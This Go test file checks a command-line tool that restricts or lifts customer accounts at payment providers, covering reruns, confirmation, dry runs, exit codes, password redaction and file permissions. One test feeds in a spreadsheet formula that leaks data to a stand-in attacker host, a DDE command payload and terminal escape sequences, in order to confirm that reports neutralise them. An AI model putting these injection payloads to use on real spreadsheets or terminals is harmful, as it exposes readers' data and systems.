package main

import (
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	_ "modernc.org/sqlite"

	"github.com/restrictkit/restrict/internal/testkit"
)

// reportName is the run's name in the summary's "full report" line.
func reportName(t *testing.T, out outcome) string {
	t.Helper()
	m := regexp.MustCompile(`restrict report --name (\S+)`).FindStringSubmatch(out.stdout + out.stderr)
	require.NotNil(t, m, "no report line in %q", out.stdout+out.stderr)
	return m[1]
}

// reportRows is "restrict report --format json" of a run.
func (o *operator) reportRows(name string, extra ...string) []map[string]any {
	o.t.Helper()
	r := o.main(append([]string{"report", "--name", name, "--format", "json"}, extra...)...)
	require.Equal(o.t, 0, r.code, r.stderr)
	var rows []map[string]any
	require.NoError(o.t, json.Unmarshal([]byte(r.stdout), &rows), r.stdout)
	return rows
}

func (o *operator) runCount() int {
	o.t.Helper()
	r := o.main("runs", "--format", "json")
	require.Equal(o.t, 0, r.code, r.stderr)
	var runs []map[string]any
	require.NoError(o.t, json.Unmarshal([]byte(r.stdout), &runs))
	return len(runs)
}

// Restrict, lift, then the same restrict command again: the providers are
// called again (a new run that says which one it follows), never answered
// from the finished first run; an explicit name of a finished run is
// refused, sending nothing.
func TestRunningTheSameCommandAgainCallsTheProvidersAgain(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	o.fakes(4)
	restrict := []string{"run", "--action", "restrict", "--subjects", o.path("subjects.csv"), "--yes", "--no-progress"}

	first := o.main(restrict...)
	require.Equal(t, 0, first.code, first.stderr)
	name := reportName(t, first)
	lift := o.main("run", "--action", "lift", "--subjects", o.path("subjects.csv"), "--yes", "--no-progress")
	require.Equal(t, 0, lift.code, lift.stderr)
	for _, r := range o.reportRows(reportName(t, lift), "--provider", "purse") {
		require.Equal(t, "active", r["state"])
	}

	again := o.main(restrict...)
	require.Equal(t, 0, again.code, again.stderr)
	require.Equal(t, name+"-2", reportName(t, again))
	require.Contains(t, again.stderr, "20 jobs added, 0 there already")
	require.Contains(t, again.stderr, "follows run "+name+", which finished at")
	for _, r := range o.reportRows(name+"-2", "--provider", "purse") {
		require.Equal(t, "restricted", r["state"], "purse was called again")
	}

	// The proof an operator reads: the status summary counts the states.
	status := o.main("run", "--action", "status", "--subjects", o.path("subjects.csv"), "--no-progress")
	require.Equal(t, 0, status.code, status.stderr)
	require.Regexp(t, `PROVIDER\s+OK\s+FAILED\s+UNSUPPORTED\s+PENDING\s+TOTAL\s+RESTRICTED\s+ACTIVE\s+UNKNOWN`, status.stdout)
	require.Regexp(t, `(?m)^purse\s+4\s+0\s+0\s+0\s+4\s+4\s+0\s+0$`, status.stdout)
	require.Regexp(t, `(?m)^kpayment\s+0\s+0\s+4\s+0\s+4\s+0\s+0\s+0$`, status.stdout)
	asJSON := o.main("run", "--action", "status", "--subjects", o.path("subjects.csv"), "--no-progress", "--format", "json")
	require.Equal(t, 0, asJSON.code, asJSON.stderr)
	var sum summary
	require.NoError(t, json.Unmarshal([]byte(asJSON.stdout), &sum), asJSON.stdout)
	require.EqualValues(t, 12, sum.All.Restricted, "purse, walletplatform and customerv2 read back")
	require.Contains(t, asJSON.stderr, "follows run status-", "the second status run is a new run")

	runs := o.runCount()
	refused := o.main(append(restrict, "--name", name)...)
	require.Equal(t, 2, refused.code, refused.stderr)
	require.Contains(t, refused.stderr, `run "`+name+`" finished at `)
	require.Contains(t, refused.stderr, "restrict report --name "+name)
	require.Equal(t, runs, o.runCount(), "nothing submitted")
}

// A resubmission under the same name with another action, reason or
// target is refused, and nothing is added.
func TestAResubmissionThatDiffersIsRefused(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	o.fakes(3)
	args := []string{"run", "--subjects", o.path("subjects.csv"), "--yes", "--no-work", "--name", "held", "--reason", "sanctions"}
	r := o.main(append(args, "--action", "restrict")...)
	require.Equal(t, 0, r.code, r.stderr)

	lines := o.subjectLines()
	header := strings.Split(lines[0], ",")
	purse := -1
	for i, h := range header {
		if h == "purse" {
			purse = i
		}
	}
	row := strings.Split(lines[1], ",")
	key := row[0]
	row[purse] = "2f1b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d"
	lines[1] = strings.Join(row, ",")
	changed := o.write("changed.csv", strings.Join(lines, "\n")+"\n")

	for name, extra := range map[string][]string{
		"another target": {"--action", "restrict", "--subjects", changed},
		"another reason": {"--action", "restrict", "--reason", "fraud"},
		"another action": {"--action", "lift"},
	} {
		r := o.main(append(append([]string{}, args...), extra...)...)
		require.Equal(t, 2, r.code, "%s: %s", name, r.stderr)
		require.Contains(t, r.stderr, "nothing was added", name)
		if name == "another target" {
			require.Contains(t, r.stderr, key, "the subject is named")
		}
	}
	rows := o.reportRows("held", "--provider", "purse")
	require.Len(t, rows, 3)
	for _, r := range rows {
		require.NotEqual(t, "2f1b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d", r["target"], "the corrected ID was not merged in")
	}
}

// Off a terminal a restrict run needs --yes; at one, it asks, and only a
// yes sends anything. A status run never asks.
func TestConfirmation(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	o.fakes(2)
	args := []string{"run", "--action", "restrict", "--subjects", o.path("subjects.csv"), "--no-progress"}
	noDB := func() {
		_, err := os.Stat(o.path("restrict.db"))
		require.ErrorIs(t, err, os.ErrNotExist, "nothing was written")
	}

	r := o.main(args...)
	require.Equal(t, 2, r.code, r.stderr)
	require.Contains(t, r.stderr, "--yes")
	require.Contains(t, r.stderr, "nothing was sent")
	noDB()

	o.tty, o.stdin = true, "n\n"
	r = o.main(args...)
	require.Equal(t, 2, r.code, r.stderr)
	require.Contains(t, r.stderr, "Restrict 2 subjects at 5 providers? [y/N] ")
	require.Contains(t, r.stderr, "not confirmed; nothing was sent")
	noDB()

	o.stdin = "y\n"
	r = o.main(args...)
	require.Equal(t, 0, r.code, r.stderr)

	o.tty, o.stdin = false, ""
	r = o.main("run", "--action", "status", "--subjects", o.path("subjects.csv"), "--no-progress")
	require.Equal(t, 0, r.code, r.stderr)
}

// A dry run checks the file and the credentials, prints the plan, and
// writes and sends nothing.
func TestDryRun(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	o.fakes(3)
	args := []string{"run", "--action", "restrict", "--subjects", o.path("subjects.csv"), "--dry-run"}
	r := o.main(args...)
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "dry run: restrict restrict-")
	require.Contains(t, r.stdout, "(a new run): 3 subjects, 15 calls")
	require.Regexp(t, `(?m)^purse\s+3\s+Restrict`, r.stdout)
	require.Contains(t, r.stdout, "nothing was written or sent")
	_, err := os.Stat(o.path("restrict.db"))
	require.ErrorIs(t, err, os.ErrNotExist)

	real := o.main("run", "--action", "restrict", "--subjects", o.path("subjects.csv"), "--yes", "--no-progress")
	require.Equal(t, 0, real.code, real.stderr)
	r = o.main(append(args, "--format", "json")...)
	require.Equal(t, 0, r.code, r.stderr)
	var pl struct {
		DryRun  bool           `json:"dry_run"`
		Run     string         `json:"run"`
		Jobs    map[string]int `json:"jobs"`
		Follows *struct {
			Name string `json:"name"`
		} `json:"follows"`
	}
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &pl), r.stdout)
	require.True(t, pl.DryRun)
	require.Equal(t, reportName(t, real)+"-2", pl.Run, "the next run would be a new one")
	require.Equal(t, reportName(t, real), pl.Follows.Name)
	require.Equal(t, 3, pl.Jobs["purse"])

	delete(o.env, "RESTRICT_PURSE_SECRET")
	r = o.main(args...)
	require.Equal(t, 2, r.code, "a dry run checks every credential")
	require.Contains(t, r.stderr, "RESTRICT_PURSE_")
}

// Exit statuses: 2 for what could never work, 3 for a database that
// cannot be reached, and the DSN's password is never printed.
func TestDatabaseRefusalsAndExitStatuses(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	o.fakes(1)
	subjects := o.path("subjects.csv")

	r := o.main("run", "--action", "status", "--subjects", subjects, "--db", "file:"+o.path("no/such/folder/r.db"))
	require.Equal(t, 2, r.code, r.stderr)
	require.Contains(t, r.stderr, "no/such/folder")
	require.Contains(t, r.stderr, "does not exist")

	for _, dsn := range []string{
		"postgres://ops:hunter2@127.0.0.1:1/restrict?connect_timeout=2&sslmode=disable",
		"postgres://ops@127.0.0.1:1/restrict?password=hunter2&connect_timeout=2&sslmode=disable",
	} {
		o.env["RESTRICT_DB"] = dsn
		r = o.main("run", "--action", "status", "--subjects", subjects, "--no-progress")
		require.Equal(t, 3, r.code, r.stderr)
		require.Contains(t, r.stderr, "127.0.0.1")
		require.NotContains(t, r.stdout+r.stderr, "hunter2")
	}

	o.env["RESTRICT_DB"] = "file:" + o.path("missing.db")
	for _, args := range [][]string{
		{"report", "--name", "x"},
		{"runs"},
	} {
		r := o.main(args...)
		require.Equal(t, 2, r.code, "%v: %s", args, r.stderr)
		require.Contains(t, r.stderr, "no restrict database at file:"+o.path("missing.db"))
	}
	_, err := os.Stat(o.path("missing.db"))
	require.ErrorIs(t, err, os.ErrNotExist, "read-only commands create nothing")

	o.env["RESTRICT_DB"] = "file:" + o.path("restrict.db")
	r = o.main("run", "--action", "status", "--subjects", subjects, "--no-progress")
	require.Equal(t, 0, r.code, r.stderr)
	name := reportName(t, r)
	for _, args := range [][]string{
		{"report", "--name", name, "--provider", "stripe"},
		{"report", "--name", name, "--result", "fine"},
		{"report", "--name", name, "--format", "xml"},
		{"runs", "--format", "xml"},
		{"run", "--action", "status", "--subjects", subjects, "--format", "xml"},
	} {
		r := o.main(args...)
		require.Equal(t, 2, r.code, "%v: %s", args, r.stderr)
	}
}

// Files that hold customers' IDs are readable by their owner only.
func TestFilesHoldingCustomerDataAre0600(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	o.fakes(1)
	r := o.main("run", "--action", "status", "--subjects", o.path("subjects.csv"), "--no-progress")
	require.Equal(t, 0, r.code, r.stderr)
	r = o.main("report", "--name", reportName(t, r), "--format", "csv", "--output", o.path("report.csv"))
	require.Equal(t, 0, r.code, r.stderr)
	for _, f := range []string{"restrict.db", "report.csv"} {
		info, err := os.Stat(o.path(f))
		require.NoError(t, err)
		require.Equal(t, os.FileMode(0o600), info.Mode().Perm(), f)
	}
}

// What leaves the program cannot hurt its reader: a report's CSV cells
// cannot become formulas, and a provider's message cannot drive the
// terminal.
func TestReportsCannotHurtTheirReader(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	o.fakes(1)
	lines := o.subjectLines()
	row := strings.SplitN(lines[1], ",", 2)
	const key = `=HYPERLINK("http://attacker.example/?leak="&A1,"open")`
	file := o.write("formula.csv", lines[0]+"\n"+`"`+strings.ReplaceAll(key, `"`, `""`)+`",`+row[1]+"\n")
	r := o.main("run", "--action", "status", "--subjects", file, "--no-progress", "--name", "formula")
	require.Equal(t, 0, r.code, r.stderr)

	db, err := sql.Open("sqlite", o.path("restrict.db"))
	require.NoError(t, err)
	_, err = db.Exec(`UPDATE restrict_bulk_outcome SET result = 'failed', error_class = 'conflict', error_message = ? WHERE provider = 'purse'`, "=cmd|' /C calc'!A0 \x1b[2J\x1b]0;owned\x07\u009b31m")
	require.NoError(t, err)
	require.NoError(t, db.Close())

	r = o.main("report", "--name", "formula", "--format", "csv")
	require.Equal(t, 0, r.code, r.stderr)
	cells, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	require.Equal(t, []string{"run", "subject", "provider"}, cells[0][:3])
	for _, row := range cells[1:] {
		require.Equal(t, "'"+key, row[1], "the key is text, not a formula")
		if row[2] == "purse" {
			require.True(t, strings.HasPrefix(row[len(row)-1], "'=cmd"), "the message is text: %q", row[len(row)-1])
		}
	}

	for _, format := range []string{"table", "json"} {
		r = o.main("report", "--name", "formula", "--format", format)
		require.Equal(t, 0, r.code, r.stderr)
		require.NotContains(t, r.stdout, "\x1b", format)
		require.NotContains(t, r.stdout, "\x07", format)
		require.NotContains(t, r.stdout, "\u009b", format)
	}
}

// The version comes from the build information.
func TestVersion(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	for _, args := range [][]string{{"version"}, {"--version"}} {
		r := o.main(args...)
		require.Equal(t, 0, r.code, r.stderr)
		require.Regexp(t, `^restrict \S+.*, go1\.\d+`, r.stdout)
	}
}

// At --log-level info the command's own events show, River's do not.
func TestLogLevelInfoShowsTheCommandsEvents(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	o.fakes(1)
	r := o.main("run", "--action", "status", "--subjects", o.path("subjects.csv"), "--no-progress", "--log-level", "info")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stderr, "msg=submitted")
	for _, line := range strings.Split(r.stderr, "\n") {
		if strings.Contains(line, "level=INFO") {
			require.Regexp(t, `msg=(submitted|working)\b`, line)
		}
	}
}

// A worker asked to stop drains and exits 0.
func TestWorkerStopsCleanly(t *testing.T) {
	t.Parallel()
	o := newOperator(t)
	o.fakes(1)
	ctx, cancel := context.WithCancelCause(context.Background())
	o.watch = &testkit.SyncBuffer{}
	go func() {
		for deadline := time.Now().Add(time.Minute); time.Now().Before(deadline) && !strings.Contains(o.watch.String(), "worker: working"); {
			time.Sleep(time.Millisecond)
		}
		cancel(errInterrupted)
	}()
	r := o.mainContext(ctx, "worker")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stderr, "worker: stopped after 0 jobs")
}
